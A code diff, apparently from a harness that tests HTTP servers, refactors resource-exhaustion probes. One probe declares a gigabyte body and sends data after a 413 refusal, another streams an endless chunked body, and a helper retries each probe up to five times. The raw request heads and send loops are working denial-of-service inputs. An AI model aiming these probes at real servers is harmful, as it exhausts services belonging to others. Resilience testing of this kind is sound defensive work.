@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import socket
 import time
+from collections.abc import Callable
 
 from attack import Attack, Outcome, fate
-from hostile import Target, eventually
+from hostile import Peer, Target, eventually
 
 DRIP_SECONDS = 0.05
 PIECE = b"x" * 65536
 AFTER_REFUSAL_BYTES = 8 * 1024 * 1024
 """More than the socket buffers of both sides hold: the server itself must have read some of it."""
+CHUNKED_BYTES = 32 * 1024 * 1024
+"""Twice Quart's own limit of a body."""
+TRIES = 5
+"""Of an attack that succeeds as released nine times in ten."""
 DECLARED_BYTES = 1024 * 1024 * 1024
 
 
@@ -28,38 +33,56 @@ def drip_of_the_body(target: Target) -> Outcome:
     return Outcome(not closed, fate(target, closed))
 
 
+def first_that_struck(target: Target, attempt: Callable[[Target], Outcome]) -> Outcome:
+    """Of some attempts; as released it is chance whether a server that has answered 413 closes or reads on."""
+    for _ in range(TRIES):
+        outcome = attempt(target)
+        if outcome.struck:
+            break
+    return outcome
+
+
 def oversize_body(target: Target) -> Outcome:
     """A gigabyte is announced, refused, and sent all the same."""
+    return first_that_struck(target, announce_a_gigabyte)
+
+
+def announce_a_gigabyte(target: Target) -> Outcome:
+    """One attempt."""
+    head = f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: {DECLARED_BYTES}\r\n\r\n"
     with target.connect() as peer:
-        peer.send(
-            f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: {DECLARED_BYTES}\r\n\r\n".encode()
-        )
+        peer.send(head.encode())
         answer = peer.answer()
-        sent, taken = 0, True
-        peer.socket.settimeout(target.patience)
-        while taken and sent < AFTER_REFUSAL_BYTES:
-            taken = peer.send(PIECE)
-            sent += len(PIECE)
-        status = "no answer" if answer is None else str(answer.status)
+        sent, taken = send_on(target, peer, PIECE, AFTER_REFUSAL_BYTES)
         stopped = not taken and target.lets_go(peer)
+    status = "no answer" if answer is None else str(answer.status)
     after = "closed" if stopped else f"{sent >> 20} MiB more are read"
     return Outcome(status != "413" or not stopped, f"{status}, {after}")
 
 
 def chunks_without_end(target: Target) -> Outcome:
     """A body that announces no length and does not end."""
-    chunk = b"10000\r\n" + PIECE + b"\r\n"
+    return first_that_struck(target, send_chunks)
+
+
+def send_chunks(target: Target) -> Outcome:
+    """One attempt."""
+    head = f"POST {target.post} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
     with target.connect() as peer:
-        peer.send(
-            f"POST {target.post} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
-        )
-        sent, taken = 0, True
-        peer.socket.settimeout(target.patience)
-        while taken and sent < 4 * AFTER_REFUSAL_BYTES:
-            taken = peer.send(chunk)
-            sent += len(PIECE)
+        peer.send(head.encode())
+        sent, taken = send_on(target, peer, b"10000\r\n" + PIECE + b"\r\n", CHUNKED_BYTES)
         gone = not taken and target.lets_go(peer)
     return Outcome(not gone, "closed" if gone else f"{sent >> 20} MiB are read")
+
+
+def send_on(target: Target, peer: Peer, piece: bytes, most: int) -> tuple[int, bool]:
+    """Sends pieces up to that sum. Returns: how much went, and whether the last was taken."""
+    sent, taken = 0, True
+    peer.socket.settimeout(target.patience)
+    while taken and sent < most:
+        taken = peer.send(piece)
+        sent += len(piece)
+    return sent, taken
 
 
 def half_close_in_the_head(target: Target) -> Outcome:
